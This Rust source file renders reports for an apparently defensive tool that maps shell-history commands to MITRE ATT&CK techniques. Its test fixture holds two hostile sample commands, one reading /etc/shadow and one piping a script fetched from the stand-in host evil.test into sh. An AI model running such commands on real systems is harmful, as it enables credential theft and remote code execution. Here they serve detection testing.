//! Report assembly and rendering.
//!
//! The classification core hands over a finalized `Vec<TechniqueSummary>`;
//! this module wraps it with run metadata and renders it as terminal text,
//! markdown, or JSON. The core never prints; all presentation lives here.

pub mod json;
pub mod markdown;
pub mod text;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::path::Path;

use crate::{HistmapError, HistmapResult, TechniqueSummary};

/// A finished run: metadata plus the ordered technique summaries.
#[derive(Debug, Clone, Serialize)]
pub struct RunReport {
    /// The analyzed history file.
    pub source_file: String,

    /// When the report was generated.
    pub generated_at: DateTime<Utc>,

    /// Physical lines in the history file, blanks included.
    pub total_lines: u64,

    /// Commands after compound-line splitting and blank skipping.
    pub total_commands: u64,

    /// Commands that matched at least one technique.
    pub matched_commands: u64,

    /// Summaries in `finalize` order: count descending, id ascending.
    pub summaries: Vec<TechniqueSummary>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ReportFormat {
    Text,
    Markdown,
    Json,
}

impl ReportFormat {
    /// Infer the format from an output file extension. Unknown extensions
    /// fall back to plain text.
    pub fn from_path(path: &Path) -> Self {
        match path.extension().and_then(|e| e.to_str()) {
            Some("md") | Some("markdown") => Self::Markdown,
            Some("json") => Self::Json,
            _ => Self::Text,
        }
    }
}

/// Render a report in the given format.
pub fn render(report: &RunReport, format: ReportFormat) -> HistmapResult<String> {
    match format {
        ReportFormat::Text => Ok(text::render(report)),
        ReportFormat::Markdown => Ok(markdown::render(report)),
        ReportFormat::Json => json::render(report),
    }
}

/// Render and write a report, creating parent directories as needed.
/// A write failure is fatal and names the output path.
pub fn write_report(report: &RunReport, path: &Path, format: ReportFormat) -> HistmapResult<()> {
    let rendered = render(report, format)?;

    if let Some(parent) = path.parent() {
        if !parent.as_os_str().is_empty() && !parent.exists() {
            std::fs::create_dir_all(parent).map_err(|e| HistmapError::io(parent, e))?;
        }
    }

    std::fs::write(path, rendered).map_err(|e| HistmapError::io(path, e))?;
    log::info!("Report written to {}", path.display());
    Ok(())
}

#[cfg(test)]
pub(crate) fn sample_report() -> RunReport {
    RunReport {
        source_file: ".bash_history".to_string(),
        generated_at: Utc::now(),
        total_lines: 3,
        total_commands: 3,
        matched_commands: 2,
        summaries: vec![
            TechniqueSummary {
                technique_id: "T1003.008".to_string(),
                name: "/etc/passwd and /etc/shadow".to_string(),
                tactic: "Credential Access".to_string(),
                description: "Dumping the contents of /etc/shadow.".to_string(),
                occurrence_count: 1,
                example_commands: vec!["cat /etc/shadow".to_string()],
            },
            TechniqueSummary {
                technique_id: "T1105".to_string(),
                name: "Ingress Tool Transfer".to_string(),
                tactic: "Command and Control".to_string(),
                description: "Transferring tools from an external system.".to_string(),
                occurrence_count: 1,
                example_commands: vec!["curl http://evil.test/x | sh".to_string()],
            },
        ],
    }
}
